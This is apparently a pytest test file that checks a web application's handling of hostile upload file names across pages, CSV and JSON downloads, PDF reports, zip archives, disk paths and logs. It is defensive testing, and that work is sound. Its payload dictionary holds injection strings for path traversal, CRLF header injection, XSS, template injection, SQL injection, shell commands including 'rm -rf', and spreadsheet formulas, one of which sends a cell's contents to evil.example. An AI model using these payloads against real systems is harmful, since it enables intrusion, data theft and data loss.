"""Hostile file names, wherever a name is shown: pages, tables, JSON, reports, zips, files on disk, logs."""

import csv
import io
import json
import logging
import re
from html import unescape
from html.parser import HTMLParser
from urllib.parse import quote
from zipfile import ZipFile

import pytest

from web.analyses.storage import COPY_NAME

NAMES = {
    "a path": "../../../etc/passwd.png",
    "a path of Windows": "..\\..\\windows\\system32\\x.png",
    "NUL": "film.php\0.png",
    "a line break": "film\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>.png",
    "a script": "<script>alert(1)</script>.png",
    "an attribute": '" onmouseover="alert(1)" x=".png',
    "a template": "{{ config.SECRET_KEY }}{% raw %}.png",
    "a format": "%(password)s%s%n{0.__class__}.png",
    "a formula": '=HYPERLINK("http://evil.example?"&A1,"film").png',
    "a formula in wide letters": "＝1+1.png",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "right to left": "film\u202egnp.exe",
    "no width": "fi\u200blm\ufeff.png",
    "300 wide characters": "影" * 300 + ".png",
    "dots": "....",
    "a device with an ending": "NUL.png",
    "a command": "$(touch pwned) `id`; rm -rf *.png",
    "SQL": "'); DROP TABLE analyses;--.png",
    "faces": "🫁😷.png",
    "a broken letter": b"fi\xff\xfelm.png".decode(errors="surrogateescape"),
}
DEVICES = re.compile(r"(?i)^(con|nul|prn|aux|com\d|lpt\d)(\.|$)")


def as_header(name: str) -> bytes:
    """Write a name so that every byte of it arrives: RFC 5987."""
    return b"filename*=UTF-8''" + quote(name.encode(errors="surrogateescape"), safe="").encode()


class Markup(HTMLParser):
    """Fails at a script that stands in the page, and at an attribute that is one."""

    def handle_starttag(self, tag, attrs):
        assert tag != "script" or "src" in dict(attrs)
        assert not [name for name, _ in attrs if name.startswith("on")]


@pytest.fixture(params=NAMES)
def name(request):
    return NAMES[request.param]


def test_a_hostile_name_stays_a_name(house, post, film, name, caplog):
    before, visitor = house.kept(), house.visitor()
    with caplog.at_level(logging.DEBUG):
        page = post(visitor, "/query", film, as_header(name), model="both")
    assert page.status_code == 200, page.text
    assert_harmless(page.text)
    assert_told_to_no_log(caplog, name)
    new = [path for path in house.kept() - before if not path.startswith("row ")]
    copies = [path for path in new if "/copies/" in path]
    assert len(copies) == 2 and all(COPY_NAME.fullmatch(path.rpartition("/")[2]) for path in copies)
    assert all(path.startswith(str(house.folder)) and len(path.rpartition("/")[2]) < 120 for path in new)
    (id,) = {path.split("/analyses/")[1].partition("/")[0] for path in new if "/analyses/" in path}
    assert_harmless(visitor.get("/analyses/").text)
    assert_harmless_downloads(visitor, id)
    visitor.post("/analyses/delete")
    assert house.kept() == before


def test_a_hostile_name_in_a_batch_stays_a_name(house, post, film, name):
    before, visitor = house.kept(), house.visitor()
    row = post(visitor, "/batch/one", film, as_header(name), model="both", function="classify", path=name)
    assert row.status_code == 200 and row.json["id"]
    assert_harmless(row.json["row"])
    asked = {"rows": json.dumps([[name, row.json["id"], ""]]), "model": "both", "function": "classify"}
    assert_harmless(visitor.post("/batch/table", data=asked).text)
    with ZipFile(io.BytesIO(visitor.post("/batch/download", data=asked | {"what": "masks"}).data)) as archive:
        films = [each for each in archive.namelist() if each.endswith(".png")]
        table = archive.read("table.csv").decode("utf-8-sig")
    assert len(films) == 1
    for each in films:
        assert re.fullmatch(r"[A-Za-z0-9_/.-]+", each) and ".." not in each and not each.startswith("/")
        assert not DEVICES.match(each.rpartition("/")[2])
    assert_no_formula(table)
    visitor.post("/analyses/delete")
    assert house.kept() == before


def assert_harmless(text):
    Markup().feed(text)
    assert "a key for tests only" not in text
    # The letters that turn a line around disguise an ending.
    assert not re.search("[\u202a-\u202e\u2066-\u2069\0\ufeff\u200b]", unescape(text))


def assert_harmless_downloads(visitor, id):
    table = visitor.get("/analyses/analyses.csv")
    assert_no_formula(table.data.decode("utf-8-sig"))
    found = visitor.get(f"/analyses/{id}.json")
    assert found.mimetype == "application/json" and json.loads(found.text)["name"]
    report = visitor.get(f"/analyses/{id}.pdf")
    assert report.status_code == 200 and report.data.startswith(b"%PDF-")
    assert b"/JavaScript" not in report.data and b"/Launch" not in report.data
    for answer in (table, found, report):
        header = answer.headers["Content-Disposition"]
        assert re.fullmatch(r'attachment; filename="?[\w.-]+"?', header), header
        assert "a=b" not in answer.headers.getlist("Set-Cookie")


def assert_no_formula(table):
    lines = list(csv.reader(io.StringIO(table)))
    assert len(lines) >= 2
    for cell in (cell for line in lines[1:] for cell in line):
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
        assert "\r" not in cell and "\0" not in cell


def assert_told_to_no_log(caplog, name):
    stem = re.sub(r"[^A-Za-z]+", " ", name).split()
    long = [word for word in stem if len(word) > 5]
    assert not [word for word in long if word in caplog.text]
